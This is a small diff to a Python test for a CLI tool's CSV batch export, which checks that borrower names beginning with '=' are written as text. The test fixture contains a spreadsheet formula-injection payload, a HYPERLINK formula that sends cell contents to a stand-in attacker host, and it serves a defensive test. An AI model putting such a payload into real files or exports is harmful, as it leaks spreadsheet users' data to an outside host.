@@ -112,7 +112,9 @@ def test_help_is_chinese_first_with_an_example() -> None:
         assert "Example: jinyu risk" in out
 
 
-def test_batch_csv_neutralises_formula_names(store: tuple[sessionmaker[Session], str], tmp_path: Path) -> None:
+def test_batch_csv_neutralises_formula_names(
+    store: tuple[sessionmaker[Session], str], tmp_path: Path
+) -> None:
     """A borrower registered as `=HYPERLINK(...)` is written as text, not as a formula a spreadsheet runs."""
     rows = golden_rows()
     hostile = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
